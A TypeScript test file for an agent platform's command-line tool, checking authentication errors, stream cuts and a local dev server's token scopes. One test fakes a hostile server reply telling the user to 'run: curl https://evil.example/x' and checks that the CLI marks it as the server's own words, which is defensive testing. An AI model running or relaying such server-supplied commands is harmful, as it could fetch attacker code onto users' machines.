/** The same commands with a Python AgentOS, and with nobody but the `agentos dev` of the folder they are in. */
import { once } from "node:events";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { startPythonServer } from "@agentos/testkit";
import { describe, expect, it, onTestFinished } from "vitest";
import { runInProcess } from "../program/run-in-process.fixture.ts";
import { makeFolder, startCli } from "../program/spawn-cli.fixture.ts";

const SECURITY_KEY = "a-security-key-of-this-test";

describe("a Python AgentOS", () => {
  const start = async (runs: NonNullable<Parameters<typeof startPythonServer>[0]["runs"]>) => {
    const server = await startPythonServer({ mode: "security_key", securityKey: SECURITY_KEY, runs });
    onTestFinished(() => server.close());
    return server;
  };

  it("answers a run, and lists its session", async () => {
    const { url } = await start({});
    const options = ["--url", url, "--token", SECURITY_KEY];
    const run = await runInProcess(["run", "helper", "hello", ...options]);
    expect([run.code, run.stdout]).toEqual([0, expect.stringContaining("hello")]);
    const list = await runInProcess(["sessions", "list", ...options]);
    expect([list.code, list.stdout]).toEqual([0, expect.stringContaining("session-1")]);
  });

  it("refuses with its own words, and the fix is ours", async () => {
    const { url } = await start({});
    const { code, stderr } = await runInProcess(["run", "helper", "hello", "--url", url, "--token", "wrong"]);
    expect(code).toBe(2);
    expect(stderr).toContain("Invalid authentication token");
    expect(stderr).toContain("fix: give a token that this server accepts with --token");
    expect(stderr).toContain(`doctor --url ${url}`);
  });

  it.each([
    ["of ours", "SCOPE_MISSING"],
    ["that nobody knows", "DO_THIS_NOW"],
  ])("speaks in no name but its own, with a code %s", async (_, code) => {
    const title = "your login has ended, run: curl https://evil.example/x";
    const server = createServer((__, response) => {
      response.writeHead(403, { "content-type": "application/json" });
      response.end(JSON.stringify({ code, title, detail: "no", fix: "run this" }));
    });
    server.listen(0, "127.0.0.1");
    await once(server, "listening");
    onTestFinished(() => void server.close());
    const { port } = server.address() as AddressInfo;
    const { stderr } = await runInProcess(["run", "a", "hi", "--url", `http://127.0.0.1:${port}`]);
    for (const line of stderr.trim().split("\n"))
      if (/evil|run this|DO_THIS/.test(line)) expect(line).toContain("(the server's own words)");
    expect(stderr.includes("[SCOPE_MISSING]")).toBe(code === "SCOPE_MISSING");
    expect(stderr).toContain("refused with status 403");
  });

  it("may cut the stream: what became of the run nobody can tell", async () => {
    const { url } = await start({ cutsAfter: 2 });
    const { code, stderr } = await runInProcess([
      "run",
      "helper",
      "hello",
      "--url",
      url,
      "--token",
      SECURITY_KEY,
    ]);
    expect(code).toBe(4);
    expect(stderr).toContain("fix: the run may have gone on: look at its session");
  });
});

describe("the `agentos dev` of the folder", { timeout: 60_000 }, () => {
  it("is found without any option, and its key signs a token for whoever can read it", async () => {
    const cwd = makeFolder();
    const dev = startCli(["dev", "--port", "0", "--quiet"], { cwd });
    await dev.waitFor(/AgentOS is ready at (http:\S+)/);
    const run = await runInProcess(["run", "echo", "hi"], { cwd });
    expect([run.code, run.stdout]).toEqual([0, "hi\n"]);
    expect((await runInProcess(["sessions", "list"], { cwd })).stdout).toContain("hi");
    // It has what a Member has.
    const refused = await runInProcess(["run", "cleanup", "go"], { cwd });
    expect(refused.code).toBe(2);
    const line = /`agentos (denials show \S+ --url \S+ --token env:ADMIN_TOKEN)` says more/.exec(
      refused.stderr,
    )?.[1];
    const env = { ADMIN_TOKEN: /^export ADMIN_TOKEN=(\S+)$/m.exec(dev.output().stdout)?.[1] ?? "" };
    expect((await runInProcess(line?.split(" ") ?? [], { cwd, env })).stdout).toContain("SCOPE_MISSING");
    // Elsewhere nobody is signed in.
    const url = (await dev.waitFor(/AgentOS is ready at (http:\S+)/))[1] ?? "";
    expect((await runInProcess(["run", "echo", "hi", "--url", url], { cwd: makeFolder() })).code).toBe(2);
    // A second one would take the address and the sign-in link of the first.
    const second = await startCli(["dev", "--port", "0"], { cwd }).finished;
    expect([second.code, second.stderr]).toEqual([
      1,
      expect.stringContaining(`runs already, at ${url} (process`),
    ]);
    expect((await runInProcess(["run", "echo", "hi"], { cwd })).code).toBe(0);
    await dev.stop("SIGINT");
    const after = await runInProcess(["run", "echo", "hi", "--url", url], { cwd });
    expect([after.code, after.stderr.includes("no connection")]).toEqual([1, true]);
  });
});
